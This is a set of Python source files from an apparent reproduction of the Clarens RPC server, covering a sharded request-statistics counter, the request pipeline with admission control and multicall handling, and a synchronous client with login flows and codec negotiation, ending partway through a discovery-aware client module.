class _StatsShard:
    __slots__ = ("lock", "requests", "faults", "anonymous_requests", "throttled",
                 "total_seconds", "per_method", "stage_seconds", "stage_calls")

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.requests = 0
        self.faults = 0
        self.anonymous_requests = 0
        self.throttled = 0
        self.total_seconds = 0.0
        self.per_method: dict[str, int] = {}
        self.stage_seconds: dict[str, float] = {}
        self.stage_calls: dict[str, int] = {}


class ShardedDispatchStats:
    """Dispatch counters striped across independently locked shards.

    The previous implementation funneled every worker thread through one
    mutex after each request; with N shards (picked by thread id) the hot
    path's accounting scales with cores, and :meth:`snapshot` merges shards
    into exactly the totals a single lock would have produced.
    """

    def __init__(self, shards: int = 8) -> None:
        if shards < 1:
            raise ValueError("shards must be positive")
        self._shards = [_StatsShard() for _ in range(shards)]
        # Thread idents are pthread struct addresses on glibc — 64-byte
        # aligned, so `ident % shards` would map every thread to shard 0.
        # Round-robin assignment via a thread-local index spreads threads
        # evenly regardless of how the platform allocates idents.
        self._local = threading.local()
        self._assign = itertools.count()

    def _shard(self) -> _StatsShard:
        index = getattr(self._local, "index", None)
        if index is None:
            index = self._local.index = next(self._assign) % len(self._shards)
        return self._shards[index]

    def record(self, *, method: str, seconds: float, fault: bool,
               anonymous: bool, throttled: bool = False,
               stage_seconds: dict[str, float] | None = None) -> None:
        shard = self._shard()
        with shard.lock:
            shard.requests += 1
            shard.total_seconds += seconds
            if fault:
                shard.faults += 1
            if anonymous:
                shard.anonymous_requests += 1
            if throttled:
                shard.throttled += 1
            shard.per_method[method] = shard.per_method.get(method, 0) + 1
            if stage_seconds:
                for name, duration in stage_seconds.items():
                    shard.stage_seconds[name] = shard.stage_seconds.get(name, 0.0) + duration
                    shard.stage_calls[name] = shard.stage_calls.get(name, 0) + 1

    def record_stage(self, name: str, seconds: float) -> None:
        """Account one stage run outside a full request record (e.g. encode)."""

        shard = self._shard()
        with shard.lock:
            shard.stage_seconds[name] = shard.stage_seconds.get(name, 0.0) + seconds
            shard.stage_calls[name] = shard.stage_calls.get(name, 0) + 1

    def record_submethods(self, counts: dict[str, int]) -> None:
        """Merge per-method counts for multicall sub-invocations."""

        shard = self._shard()
        with shard.lock:
            for method, count in counts.items():
                shard.per_method[method] = shard.per_method.get(method, 0) + count

    def snapshot(self) -> dict:
        requests = faults = anonymous = throttled = 0
        total_seconds = 0.0
        per_method: dict[str, int] = {}
        stage_seconds: dict[str, float] = {}
        stage_calls: dict[str, int] = {}
        for shard in self._shards:
            with shard.lock:
                requests += shard.requests
                faults += shard.faults
                anonymous += shard.anonymous_requests
                throttled += shard.throttled
                total_seconds += shard.total_seconds
                for method, count in shard.per_method.items():
                    per_method[method] = per_method.get(method, 0) + count
                for name, duration in shard.stage_seconds.items():
                    stage_seconds[name] = stage_seconds.get(name, 0.0) + duration
                for name, count in shard.stage_calls.items():
                    stage_calls[name] = stage_calls.get(name, 0) + count
        stages = {
            name: {
                "seconds": stage_seconds[name],
                "calls": stage_calls.get(name, 0),
                "mean_ms": (stage_seconds[name] / stage_calls[name] * 1000.0)
                           if stage_calls.get(name) else 0.0,
            }
            for name in sorted(stage_seconds)
        }
        return {
            "requests": requests,
            "faults": faults,
            "anonymous_requests": anonymous,
            "throttled": throttled,
            "total_seconds": total_seconds,
            "mean_latency_ms": (total_seconds / requests * 1000.0) if requests else 0.0,
            "per_method": per_method,
            "stages": stages,
        }


# ---------------------------------------------------------------------------
# The pipeline
# ---------------------------------------------------------------------------

class RequestPipeline:
    """An ordered stage chain plus the stats it feeds."""

    def __init__(self, server: "ClarensServer", stages: Sequence[PipelineStage],
                 *, stats_shards: int = 8) -> None:
        self.server = server
        self.stages: list[PipelineStage] = list(stages)
        self.stats = ShardedDispatchStats(stats_shards)
        #: The admission controller the admission stage runs (None when both
        #: limits are off).  Exposed so multicall token charging, the fabric
        #: admission extension and ``system.stats`` reach the same buckets.
        self.admission: AdmissionController | None = None
        #: The server's telemetry assembly (None in paper mode): finished
        #: requests report spans, metrics and slow-log entries through it.
        self.telemetry: "ServerTelemetry | None" = None
        #: The codec names this server accepts (``protocol_preference``), and
        #: the advert string sent back to clients that ask to negotiate.
        config = getattr(server, "config", None)
        protocols = getattr(config, "protocols", None)
        self.enabled_protocols: tuple[str, ...] | None = (
            protocols() if callable(protocols) else None)
        self.protocol_advert: str | None = (
            ",".join(self.enabled_protocols) if self.enabled_protocols else None)
        #: Per-method (result, fragment) pairs for spliceable codecs: when a
        #: method keeps returning an equal result, its encoded value bytes
        #: are reused instead of re-walked (see :meth:`_encode_spliced`).
        self._result_memo: dict[str, tuple[Any, bytes]] = {}
        #: Exact-bytes decoded-request memo for spliceable codecs: hot RPC
        #: traffic repeats wire-identical frames, and a binary frame is a
        #: canonical encoding, so equal bytes always decode to the same
        #: request.  Only requests with immutable params are stored (the
        #: decoded object is shared across calls).
        self._request_memo: dict[Any, RPCRequest] = {}

    # -- composition ---------------------------------------------------------
    def stage_names(self) -> list[str]:
        return [stage.name for stage in self.stages]

    def insert_stage(self, stage: PipelineStage, *, before: str | None = None,
                     after: str | None = None) -> None:
        """Insert a custom stage relative to a named one (default: append).

        ``before``/``after`` name an existing stage; unknown names raise
        ValueError so a typo cannot silently reorder security checks.
        """

        if before is not None and after is not None:
            raise ValueError("pass before= or after=, not both")
        anchor = before or after
        if anchor is None:
            self.stages.append(stage)
            return
        for index, existing in enumerate(self.stages):
            if existing.name == anchor:
                self.stages.insert(index if before else index + 1, stage)
                return
        raise ValueError(f"no pipeline stage named {anchor!r}")

    # -- execution -----------------------------------------------------------
    def execute(self, rpc_request: RPCRequest, *,
                http_request: HTTPRequest | None = None,
                protocol: str = "xml-rpc",
                pre_stage_seconds: dict[str, float] | None = None,
                validate_result: bool = True) -> RequestState:
        """Run the stage chain for one decoded request; never raises."""

        state = RequestState(server=self.server, rpc_request=rpc_request,
                             http_request=http_request, protocol=protocol,
                             validate_result=validate_result)
        if pre_stage_seconds:
            state.stage_seconds.update(pre_stage_seconds)
        start = time.perf_counter()
        fault: Fault | None = None
        try:
            for stage in self.stages:
                stage_start = time.perf_counter()
                try:
                    stage(state)
                finally:
                    state.stage_seconds[stage.name] = (
                        state.stage_seconds.get(stage.name, 0.0)
                        + time.perf_counter() - stage_start)
        except BaseException as exc:  # noqa: BLE001 - faults must not kill the server
            fault = to_fault(exc)
            state.response = RPCResponse.from_fault(fault, call_id=rpc_request.call_id)
        finally:
            for cleanup in reversed(state.cleanups):
                try:
                    cleanup()
                except Exception:  # noqa: BLE001 - cleanups are best-effort
                    pass
        duration = time.perf_counter() - start
        self.stats.record(
            method=rpc_request.method, seconds=duration,
            fault=fault is not None, anonymous=state.anonymous,
            throttled=fault is not None and fault.code == FaultCode.RETRY_LATER,
            stage_seconds=state.stage_seconds)
        if self.telemetry is not None and state.trace is not None:
            self.telemetry.on_request(Span(
                trace_id=state.trace.trace_id,
                span_id=state.trace.span_id,
                parent_id=state.trace.parent_id,
                server=self.server.config.server_name,
                method=rpc_request.method,
                identity=state.identity,
                protocol=state.protocol,
                status="fault" if fault is not None else "ok",
                fault_code=int(fault.code) if fault is not None else 0,
                fault_string=fault.message if fault is not None else "",
                started=time.time() - duration,
                duration_s=duration,
                stage_seconds=dict(state.stage_seconds)))
        return state

    def run(self, rpc_request: RPCRequest, *,
            http_request: HTTPRequest | None = None,
            protocol: str = "xml-rpc") -> RPCResponse:
        """Dispatch one decoded RPC request and return the RPC response."""

        return self.execute(rpc_request, http_request=http_request,
                            protocol=protocol).response

    # -- HTTP entry point ----------------------------------------------------
    def _http_response(self, status: int, codec, body: bytes,
                       advert: str | None) -> HTTPResponse:
        headers = Headers({"Content-Type": codec.content_type})
        if advert is not None:
            headers.set(PROTOCOL_HEADER, advert)
        return HTTPResponse(status=status, headers=headers, body=body)

    def _encode_spliced(self, codec, method: str, response: RPCResponse) -> bytes:
        """Encode a success response, reusing the result bytes when possible.

        Catalogue-style methods (``system.list_methods`` — the Figure 4
        workload) return an equal result on every call, yet the generic path
        re-walks the whole value tree per response.  For spliceable codecs
        the ``value(result)`` fragment is memoised per method and revalidated
        with a single C-level ``==`` against the memoised result — safe
        because only :func:`_stable_copy`-able values (whose equality implies
        byte-identical encoding) are ever stored, and the stored copy is
        rebuilt so a service mutating its returned object cannot alias the
        baseline.  Changed results simply miss and re-encode; the memo never
        serves bytes for a value that is not equal to the one it encoded.
        """

        memo = self._result_memo
        result = response.result
        cached = memo.get(method)
        if cached is not None and cached[0] == result:
            return codec.encode_response_from_fragment(response.call_id, cached[1])
        fragment = codec.encode_result_fragment(result)
        copied = _stable_copy(result)
        if copied is not _UNSTABLE:
            if len(memo) >= _RESULT_MEMO_LIMIT:
                memo.clear()
            memo[method] = (copied, fragment)
        return codec.encode_response_from_fragment(response.call_id, fragment)

    def handle_http(self, request: HTTPRequest) -> HTTPResponse:
        """Handle a POST to the RPC endpoint: decode, run the chain, encode."""

        # Advertise the enabled codecs only to clients that asked: paper-mode
        # traffic (no accept header) stays byte-for-byte unchanged.
        advert = None
        if request.headers.get(ACCEPT_HEADER):
            advert = self.protocol_advert

        decode_start = time.perf_counter()
        try:
            codec = detect_codec(request.body, request.content_type,
                                 enabled=self.enabled_protocols)
        except ProtocolError as exc:
            # Without a codec we cannot produce a protocol-correct fault body;
            # fall back to the default (XML-RPC), as the original server did.
            codec = default_codec()
            body = encode_fault_cached(codec, Fault(FaultCode.PARSE_ERROR, str(exc)))
            return self._http_response(200, codec, body, advert)

        # Spliceable codecs validate while encoding, so the invoke stage's
        # separate validation walk over the result is redundant for them.
        spliceable = getattr(codec, "spliceable", False)
        rpc_request = (self._request_memo.get(request.body)
                       if spliceable else None)
        if rpc_request is None:
            try:
                rpc_request = codec.decode_request(request.body)
            except ProtocolError as exc:
                body = encode_fault_cached(codec, Fault(FaultCode.PARSE_ERROR, str(exc)))
                return self._http_response(200, codec, body, advert)
            if (spliceable and len(request.body) <= _REQUEST_MEMO_MAX_BYTES
                    and all(isinstance(param, _IMMUTABLE_PARAMS)
                            for param in rpc_request.params)):
                if len(self._request_memo) >= _REQUEST_MEMO_LIMIT:
                    self._request_memo.clear()
                self._request_memo[request.body] = rpc_request
        decode_seconds = time.perf_counter() - decode_start

        state = self.execute(rpc_request, http_request=request,
                             protocol=codec.name,
                             pre_stage_seconds={"decode": decode_seconds},
                             validate_result=not spliceable)
        response = state.response
        response.call_id = rpc_request.call_id

        encode_start = time.perf_counter()
        if response.is_fault and response.call_id is None:
            # Fault bodies without a call id are pure functions of the codec
            # and the fault — serve the pre-encoded bytes (overload shedding
            # re-encodes the identical 429 body thousands of times otherwise).
            body = encode_fault_cached(codec, response.fault)
        elif spliceable and not response.is_fault:
            try:
                body = self._encode_spliced(codec, rpc_request.method, response)
            except ProtocolError as exc:
                # The validation the invoke stage skipped surfaces here: an
                # unencodable result becomes the same fault the validation
                # walk would have raised.
                response = RPCResponse.from_fault(to_fault(exc),
                                                  call_id=rpc_request.call_id)
                body = codec.encode_response(response)
        else:
            body = codec.encode_response(response)
        self.stats.record_stage("encode", time.perf_counter() - encode_start)

        status = 200
        if response.is_fault and response.fault.code == FaultCode.RETRY_LATER:
            # Load shedding is transport-visible: plain-HTTP callers (and any
            # intermediary) see 429 without having to parse the fault body.
            status = 429
        return self._http_response(status, codec, body, advert)

    # -- batched RPC ---------------------------------------------------------
    def run_multicall(self, ctx: CallContext, calls: Sequence[Any]) -> list[Any]:
        """Execute a ``system.multicall`` batch with fault-per-entry semantics.

        The batch already paid decode, trace, session and one admission token
        once; this method charges the remaining N-1 tokens (N entries cost N
        tokens under ``dispatch_rate_limit``), amortizes the method-ACL check
        per *distinct* method name and invokes each entry.  Following the XML-RPC multicall convention, each
        result slot is a one-element array ``[value]`` on success or a struct
        ``{"faultCode", "faultString"}`` on failure — one bad entry never
        poisons its neighbours.
        """

        server = self.server
        limit = server.config.dispatch_multicall_limit
        if limit and len(calls) > limit:
            # Refuse the whole batch: it admits as one request, so an
            # unbounded batch would let one admission token buy arbitrary
            # amounts of work.
            raise Fault(FaultCode.INVALID_PARAMS,
                        f"multicall batch of {len(calls)} entries exceeds the "
                        f"server limit of {limit}")
        identity = ctx.dn or ANONYMOUS_IDENTITY
        if (self.admission is not None and len(calls) > 1
                and not self.admission.is_exempt(identity)):
            # The batch paid one token at the admission stage; charge the
            # other N-1 so a multicall of N entries costs exactly N tokens
            # and batching cannot buy unmetered work.  An insufficient
            # balance rejects the whole batch with RETRY_LATER (HTTP 429) —
            # but a batch larger than the bucket can *ever* hold is refused
            # permanently, or a polite client would 429-loop forever on a
            # condition no amount of waiting can satisfy.  Exempt identities
            # (fabric peers) skip both, matching their exemption everywhere
            # else.
            if self.admission.rate > 0 and len(calls) > self.admission.burst:
                raise Fault(FaultCode.INVALID_PARAMS,
                            f"multicall batch of {len(calls)} entries can "
                            f"never fit the admission burst capacity of "
                            f"{self.admission.burst:.0f} tokens; split the "
                            f"batch")
            self.admission.charge(identity, len(calls) - 1,
                                  "system.multicall",
                                  retry_cost=len(calls))
        verdicts: dict[str, Fault | None] = {}
        results: list[Any] = []
        counts: dict[str, int] = {}
        for entry in calls:
            name = ""
            child: TraceContext | None = None
            entry_start = time.perf_counter()
            fault: Fault | None = None
            try:
                name, params = _parse_multicall_entry(entry)
                counts[name] = counts.get(name, 0) + 1
                if name not in verdicts:
                    verdicts[name] = self._authorize_submethod(ctx, name)
                verdict = verdicts[name]
                if verdict is not None:
                    raise verdict
                method = server.registry.lookup(name)
                # Each entry is its own span within the batch's trace, so a
                # fan-out through multicall stays reconstructable per entry.
                if ctx.trace is not None:
                    child = ctx.trace.child()
                sub_ctx = CallContext(server=server, method=name, dn=ctx.dn,
                                      session=ctx.session, request=ctx.request,
                                      protocol=ctx.protocol, trace_id=ctx.trace_id,
                                      trace=child)
                if child is not None:
                    with use_trace(child):
                        result = _call_with_context(method.func, sub_ctx,
                                                    tuple(params))
                else:
                    result = _call_with_context(method.func, sub_ctx, tuple(params))
                validate_value(result)
                results.append([result])
            except BaseException as exc:  # noqa: BLE001 - fault-per-entry
                fault = to_fault(exc)
                results.append({"faultCode": fault.code,
                                "faultString": fault.message})
            if self.telemetry is not None and child is not None:
                duration = time.perf_counter() - entry_start
                self.telemetry.on_request(Span(
                    trace_id=child.trace_id, span_id=child.span_id,
                    parent_id=child.parent_id,
                    server=server.config.server_name,
                    method=name, identity=ctx.dn or ANONYMOUS_IDENTITY,
                    protocol=ctx.protocol,
                    status="fault" if fault is not None else "ok",
                    fault_code=int(fault.code) if fault is not None else 0,
                    fault_string=fault.message if fault is not None else "",
                    started=time.time() - duration,
                    duration_s=duration))
        if counts:
            self.stats.record_submethods(counts)
        return results

    def _authorize_submethod(self, ctx: CallContext, name: str) -> Fault | None:
        """The per-distinct-method share of the two access checks.

        The session (check 1) was validated when the batch entered the
        pipeline; what remains per method is the anonymous-caller gate and
        the ACL evaluation (check 2) — the same :func:`allow_anonymous` and
        :func:`check_method_acl` rules the session/acl stages apply, so the
        two paths cannot drift.
        """

        server = self.server
        try:
            if name == "system.multicall":
                raise AccessDeniedError("system.multicall may not be nested")
            method = server.registry.lookup(name)
            if (ctx.dn is None and server.config.access_checks_per_request >= 1
                    and not allow_anonymous(server, method)):
                raise AuthenticationError(
                    f"method {name} requires an authenticated session")
            check_method_acl(server, ctx.dn, name, method)
        except BaseException as exc:  # noqa: BLE001
            return to_fault(exc)
        return None


def _parse_multicall_entry(entry: Any) -> tuple[str, Sequence[Any]]:
    if not isinstance(entry, dict):
        raise Fault(FaultCode.INVALID_PARAMS,
                    "multicall entries must be structs with methodName/params")
    name = entry.get("methodName")
    if not isinstance(name, str) or not name:
        raise Fault(FaultCode.INVALID_PARAMS,
                    "multicall entry is missing a methodName string")
    params = entry.get("params", [])
    if not isinstance(params, (list, tuple)):
        raise Fault(FaultCode.INVALID_PARAMS,
                    f"params for {name} must be an array")
    return name, params


# ---------------------------------------------------------------------------
# Assembly
# ---------------------------------------------------------------------------

def build_pipeline(server: "ClarensServer") -> RequestPipeline:
    """Assemble the standard stage chain from the server's configuration."""

    config = server.config
    controller = None
    if config.dispatch_rate_limit > 0 or config.dispatch_max_inflight > 0:
        controller = AdmissionController(
            rate=config.dispatch_rate_limit,
            burst=config.dispatch_burst,
            max_inflight=config.dispatch_max_inflight,
            bus=server.message_bus,
            source=config.server_name)
    telemetry = getattr(server, "telemetry", None)
    stages = [TraceStage(telemetry=telemetry), SessionStage(), MethodACLStage(),
              AdmissionStage(controller), InvokeStage()]
    pipeline = RequestPipeline(server, stages,
                               stats_shards=config.dispatch_stats_shards)
    pipeline.admission = controller
    pipeline.telemetry = telemetry
    return pipeline


# ---------------------------------------------------------------------------
# Invocation helper (shared with the legacy dispatcher facade)
# ---------------------------------------------------------------------------

def _wants_context(func) -> bool:
    try:
        params = list(inspect.signature(func).parameters.values())
    except (TypeError, ValueError):
        return False
    return bool(params) and params[0].name in ("ctx", "context")


_CONTEXT_CACHE: dict[object, bool] = {}


def _call_with_context(func, ctx: CallContext, params):
    """Invoke ``func`` with the call context when its signature asks for one."""

    key = getattr(func, "__func__", func)
    wants = _CONTEXT_CACHE.get(key)
    if wants is None:
        wants = _wants_context(func)
        _CONTEXT_CACHE[key] = wants
    if wants:
        return func(ctx, *params)
    return func(*params)
