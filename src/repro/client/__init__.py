"""Client implementations.

The paper emphasises that Clarens comes "coupled with a set of useful client
implementations".  This package provides:

* :class:`~repro.client.client.ClarensClient` -- a synchronous client with
  certificate / proxy / TLS login flows and typed RPC calls.
* :class:`~repro.client.asyncclient.AsyncLoadClient` -- the asynchronous
  multi-connection load generator used for Figure 4 (N concurrent client
  connections issuing batches of calls "as rapidly as possible").
* :class:`~repro.client.discovery_client.DiscoveryAwareClient` -- a client
  that resolves service locations through a discovery server and binds at
  call time.
* :mod:`repro.client.files` -- file download/upload helpers (GET + file.read).
* :mod:`repro.client.transport` -- loopback and real-HTTP transports.
"""

from __future__ import annotations

from repro.client.asyncclient import AsyncLoadClient, LoadResult
from repro.client.client import ClarensClient
from repro.client.discovery_client import DiscoveryAwareClient, ServerDirectory
from repro.client.errors import ClientError
from repro.client.files import download_file, upload_file
from repro.client.transport import HTTPTransport, LoopbackClientTransport, Transport

__all__ = [
    "ClarensClient",
    "AsyncLoadClient",
    "LoadResult",
    "DiscoveryAwareClient",
    "ServerDirectory",
    "ClientError",
    "Transport",
    "LoopbackClientTransport",
    "HTTPTransport",
    "download_file",
    "upload_file",
]
