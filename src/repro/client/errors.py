"""Client-side errors."""

from __future__ import annotations

__all__ = ["ClientError", "TransportError"]


class ClientError(Exception):
    """Base class for client-side failures (transport, login, protocol)."""


class TransportError(ClientError):
    """The HTTP transport failed (connection refused, malformed response, ...)."""
