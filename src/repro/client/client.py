"""The synchronous Clarens client.

Usage::

    server, ca = ClarensServer.with_test_pki()
    alice = ca.issue_user("Alice Adams")
    client = ClarensClient.for_loopback(server.loopback())
    client.login_with_credential(alice)
    print(client.call("system.list_methods"))

The client keeps the session id returned by the login methods and attaches it
to every subsequent request (header ``X-Clarens-Session``), mirroring how the
original clients carried their session cookie.
"""

from __future__ import annotations

from typing import Any, Mapping, Sequence

from repro.client.errors import ClientError
from repro.client.transport import HTTPTransport, LoopbackClientTransport, Transport
from repro.core.dispatch import SESSION_HEADER
from repro.httpd.loopback import LoopbackTransport
from repro.httpd.message import HTTPResponse
from repro.httpd.tls import TLSContext
from repro.pki.credentials import Credential
from repro.pki.proxy import ProxyCertificate
from repro.protocols import default_codec
from repro.protocols.errors import Fault, FaultCode, ProtocolError
from repro.protocols.negotiate import (
    ACCEPT_HEADER, PROTOCOL_HEADER, codec_by_name, detect_codec,
    parse_protocol_list)
from repro.protocols.types import RPCRequest, RPCResponse
from repro.telemetry.trace import TRACE_HEADER, current_trace

__all__ = ["ClarensClient"]


class ClarensClient:
    """A synchronous RPC client for one Clarens server."""

    #: The codec a negotiating client upgrades to when the server offers it.
    UPGRADE_PROTOCOL = "binary"

    def __init__(self, transport: Transport, *, rpc_path: str = "/clarens/rpc",
                 file_path: str = "/clarens/file", codec=None,
                 negotiate: bool = False) -> None:
        self.transport = transport
        self.rpc_path = rpc_path
        self.file_path = file_path
        self.codec = codec or default_codec()
        #: When True the client offers to upgrade to the binary codec
        #: (``X-Clarens-Accept-Protocol``) and switches once the server
        #: advertises support; off by default so paper-mode traffic is
        #: byte-for-byte what the original clients sent.
        self.negotiate = negotiate
        self._base_codec = self.codec
        self._negotiated = False
        self.session_id: str | None = None
        self.dn: str | None = None
        self._call_counter = 0

    # -- constructors ----------------------------------------------------------------
    @classmethod
    def for_loopback(cls, loopback: LoopbackTransport, *,
                     credential: Credential | None = None,
                     url_prefix: str = "/clarens", codec=None,
                     negotiate: bool = False) -> "ClarensClient":
        """Build a client over an in-process loopback transport.

        When ``credential`` is given and the loopback has TLS enabled, the
        connection performs mutual TLS so the server sees the client DN.
        """

        client_tls = None
        if credential is not None:
            client_tls = TLSContext(credential=credential)
        transport = LoopbackClientTransport(loopback, client_tls=client_tls)
        return cls(transport, rpc_path=f"{url_prefix}/rpc",
                   file_path=f"{url_prefix}/file", codec=codec,
                   negotiate=negotiate)

    @classmethod
    def for_url(cls, base_url: str, *, url_prefix: str = "/clarens",
                codec=None, negotiate: bool = False) -> "ClarensClient":
        """Build a client speaking real HTTP to ``base_url``."""

        transport = HTTPTransport(base_url)
        return cls(transport, rpc_path=f"{url_prefix}/rpc",
                   file_path=f"{url_prefix}/file", codec=codec,
                   negotiate=negotiate)

    # -- core call -------------------------------------------------------------------
    def _headers(self, extra: Mapping[str, str] | None = None) -> dict[str, str]:
        headers = {"Content-Type": self.codec.content_type}
        if self.negotiate:
            # Sent on every request (not just the first) so a server restart
            # mid-session re-learns that this client can upgrade.
            headers[ACCEPT_HEADER] = self.UPGRADE_PROTOCOL
        if self.session_id:
            headers[SESSION_HEADER] = self.session_id
        # Distributed tracing: when the calling thread runs under an ambient
        # trace (a telemetry-enabled server invoking a peer, a traced
        # transfer worker), carry it to the callee.  Headers are rebuilt per
        # request, so pooled/re-used clients pick up whatever trace is
        # active at call time; servers without telemetry ignore the header.
        trace = current_trace()
        if trace is not None:
            headers[TRACE_HEADER] = trace.to_header()
        if extra:
            headers.update(extra)
        return headers

    def call(self, method: str, *params: Any) -> Any:
        """Invoke ``method`` with positional parameters; return its result.

        RPC faults raised by the server are re-raised as
        :class:`repro.protocols.errors.Fault`.
        """

        self._call_counter += 1
        request = RPCRequest(method=method, params=params, call_id=self._call_counter)
        return self._invoke(request).unwrap()

    def _invoke(self, request: RPCRequest, *, encode=None,
                _retried: bool = False) -> RPCResponse:
        """Encode, POST and decode one request, handling codec negotiation.

        ``encode`` overrides the request encoding (the multicall fast path);
        it is a callable over the codec so a negotiation fallback re-encodes
        in whatever protocol the retry uses.
        """

        codec = self.codec
        body = encode(codec) if encode is not None else codec.encode_request(request)
        response = self.transport.request("POST", self.rpc_path,
                                          headers=self._headers(), body=body)
        # 429 (throttled) still carries a protocol-correct RETRY_LATER fault
        # body, which unwrap() by the caller re-raises as a Fault to back
        # off on; any other non-200 status is a transport-level failure.
        if response.status not in (200, 429):
            raise ClientError(
                f"HTTP {response.status} from server: {response.body_bytes()[:200]!r}")
        raw = response.body_bytes()
        if self.negotiate:
            self._observe_advert(response)
        try:
            rpc_response = codec.decode_response(raw)
        except ProtocolError as exc:
            rpc_response = self._decode_foreign(raw, response, codec)
            if rpc_response is None:
                raise ClientError(f"malformed response: {exc}") from exc
        if (self.negotiate and not _retried and codec is not self._base_codec
                and rpc_response.is_fault
                and rpc_response.fault.code == FaultCode.PARSE_ERROR):
            # The server could not parse our upgraded request (it restarted
            # into a build or config without the codec).  A parse fault
            # proves the method never executed, so resending in the base
            # protocol is safe — and the accept header on the retry lets a
            # capable server re-advertise, re-upgrading later calls.
            self._negotiated = False
            self.codec = self._base_codec
            return self._invoke(request, encode=encode, _retried=True)
        return rpc_response

    def _decode_foreign(self, raw: bytes, response: HTTPResponse,
                        request_codec) -> RPCResponse | None:
        """Decode a response written in a codec other than the request's.

        Happens when a negotiated server restarted mid-session: the parse
        fault for our binary request arrives in the default protocol.
        ``request_codec`` is the codec the request was encoded with — not
        ``self.codec``, which :meth:`_observe_advert` may already have
        downgraded while this response was in flight.
        """

        try:
            other = detect_codec(raw, response.headers.get("Content-Type"))
            if other.name == request_codec.name:
                return None
            return other.decode_response(raw)
        except ProtocolError:
            return None

    def _observe_advert(self, response: HTTPResponse) -> None:
        """React to the server's codec advert (upgrade or drop back)."""

        advert = response.headers.get(PROTOCOL_HEADER)
        if not advert:
            return
        try:
            offered = parse_protocol_list(advert)
        except ProtocolError:
            return
        if self.UPGRADE_PROTOCOL in offered:
            if self.codec.name != self.UPGRADE_PROTOCOL:
                self.codec = codec_by_name(self.UPGRADE_PROTOCOL)
                self._negotiated = True
        elif self._negotiated:
            self.codec = self._base_codec
            self._negotiated = False

    def try_call(self, method: str, *params: Any) -> tuple[Any, Fault | None]:
        """Like :meth:`call` but returns ``(result, fault)`` instead of raising."""

        try:
            return self.call(method, *params), None
        except Fault as fault:
            return None, fault

    def multicall(self, calls: Sequence[tuple[str, Sequence[Any]]]) -> list[Any]:
        """Batch many calls into one ``system.multicall`` request.

        ``calls`` is a sequence of ``(method, params)`` pairs.  The batch is
        encoded, sent and authenticated as a single request (the server's
        admission control still charges one token per entry); the server
        runs its ACL check once per distinct method.  Returns one slot
        per call, in order: the call's result, or — because one bad entry
        must not poison the batch — a :class:`Fault` instance *in place*
        (not raised) for entries that failed.
        """

        normalised = [(method, list(params)) for method, params in calls]
        self._call_counter += 1
        call_id = self._call_counter

        def encode(codec):
            # Codecs with a batch fast path serialise the entries straight
            # into one buffer; others pay the generic entry-dict encoding.
            fast = getattr(codec, "encode_multicall", None)
            if fast is not None:
                return fast(normalised, call_id=call_id)
            entries = [{"methodName": method, "params": params}
                       for method, params in normalised]
            return codec.encode_request(RPCRequest(
                method="system.multicall", params=(entries,), call_id=call_id))

        request = RPCRequest(method="system.multicall", params=(),
                             call_id=call_id)
        raw = self._invoke(request, encode=encode).unwrap()
        results: list[Any] = []
        for slot in raw:
            if isinstance(slot, (list, tuple)) and len(slot) == 1:
                results.append(slot[0])
            elif isinstance(slot, dict) and "faultCode" in slot:
                results.append(Fault(slot["faultCode"], slot.get("faultString", "")))
            else:
                raise ClientError(f"malformed multicall result slot: {slot!r}")
        return results

    # -- login flows ------------------------------------------------------------------
    def login_with_credential(self, credential: Credential) -> dict[str, Any]:
        """Challenge–response login with a user credential (cert + key)."""

        dn = str(credential.certificate.subject)
        nonce = self.call("system.get_challenge", dn)
        signature = credential.private_key.sign(nonce.encode())
        chain = [cert.to_dict() for cert in credential.full_chain()]
        session = self.call("system.auth", dn, format(signature, "x"), chain)
        self.session_id = session["session_id"]
        self.dn = session["dn"]
        return session

    def login_with_proxy(self, proxy: ProxyCertificate) -> dict[str, Any]:
        """Login by presenting a proxy certificate chain."""

        chain = [cert.to_dict() for cert in proxy.credential.full_chain()]
        session = self.call("system.auth_proxy", chain)
        self.session_id = session["session_id"]
        self.dn = session["dn"]
        return session

    def login_with_stored_proxy(self, owner_dn: str, password: str) -> dict[str, Any]:
        """Login using a proxy previously stored on the server (DN + password)."""

        session = self.call("proxy.login", owner_dn, password)
        self.session_id = session["session_id"]
        self.dn = session["dn"]
        return session

    def login_tls(self) -> dict[str, Any]:
        """Create a session from the TLS client certificate on the connection."""

        session = self.call("system.auth_tls")
        self.session_id = session["session_id"]
        self.dn = session["dn"]
        return session

    def logout(self) -> bool:
        """Destroy the current session (no-op when not logged in)."""

        if not self.session_id:
            return False
        try:
            result = bool(self.call("system.logout"))
        finally:
            self.session_id = None
            self.dn = None
        return result

    @property
    def authenticated(self) -> bool:
        return self.session_id is not None

    # -- convenience wrappers ------------------------------------------------------------
    def list_methods(self) -> list[str]:
        return list(self.call("system.list_methods"))

    def server_info(self) -> dict[str, Any]:
        return dict(self.call("system.server_info"))

    def whoami(self) -> dict[str, Any]:
        return dict(self.call("system.whoami"))

    def fetch_trace(self, trace_id: str, *, timeout: float = 0.0) -> dict[str, Any]:
        """The assembled fabric-wide span tree for ``trace_id``.

        Wraps ``system.trace_tree`` (administrators only): the queried
        server fans out to its registered peers and returns one merged
        parent/child tree, flagged ``partial`` when a peer was unreachable.
        """

        return dict(self.call("system.trace_tree", str(trace_id), float(timeout)))

    def http_get(self, path: str, *, query: str = "") -> HTTPResponse:
        """Issue a raw GET (used for file downloads through the sendfile path)."""

        full = path if path.startswith("/") else f"{self.file_path}/{path}"
        if query:
            full = f"{full}?{query}"
        return self.transport.request("GET", full, headers=self._headers({"Accept": "*/*"}))

    def close(self) -> None:
        self.transport.close()

    def __enter__(self) -> "ClarensClient":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()
