"""A discovery-aware client: location-independent calls.

"Using the discovery service, applications (and this includes other services)
can make service calls that are location independent … Binding to a location
can then occur in real time."  :class:`DiscoveryAwareClient` asks a discovery
server which live endpoint offers the wanted module (or method), resolves the
returned URL to a transport through a :class:`ServerDirectory`, and performs
the call there.  Bindings are re-resolved whenever a cached endpoint fails or
its descriptor disappears, so a service can move between servers mid-session.
"""

from __future__ import annotations

import threading
from typing import Any, Callable

from repro.client.client import ClarensClient
from repro.client.errors import ClientError
from repro.httpd.loopback import LoopbackTransport
from repro.pki.credentials import Credential

__all__ = ["ServerDirectory", "DiscoveryAwareClient"]


class ServerDirectory:
    """Maps discovery URLs onto client factories.

    In a real deployment the URL itself is enough (it names a host/port); the
    reproduction also supports ``loopback://`` URLs that resolve to in-process
    transports, so multi-server examples and tests run without sockets.
    """

    def __init__(self) -> None:
